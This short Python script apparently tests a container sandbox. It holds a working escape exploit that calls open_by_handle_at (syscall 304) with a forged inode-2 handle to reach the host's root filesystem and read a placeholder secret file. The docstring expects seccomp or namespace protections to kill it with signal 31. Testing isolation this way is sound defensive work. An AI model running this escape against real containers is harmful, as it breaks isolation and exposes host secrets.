"""Open the root of the host's disk by its handle, as a container once was left.

falls without: seccomp, userns, nobody, capabilities
ends: SIGNALED 31
"""

import ctypes
import os
import struct

libc = ctypes.CDLL(None, use_errno=True)
library = os.open(os.path.dirname(os.__file__), os.O_RDONLY)  # on the disk that the secret is on, too
handle = struct.pack("IiII", 8, 1, 2, 0)  # inode 2
root = libc.syscall(304, library, handle, os.O_RDONLY)
if root < 0:
    raise OSError(ctypes.get_errno(), "open_by_handle_at")
print("GOT", os.read(os.open("@SECRET@".lstrip("/"), os.O_RDONLY, dir_fd=root), 100))
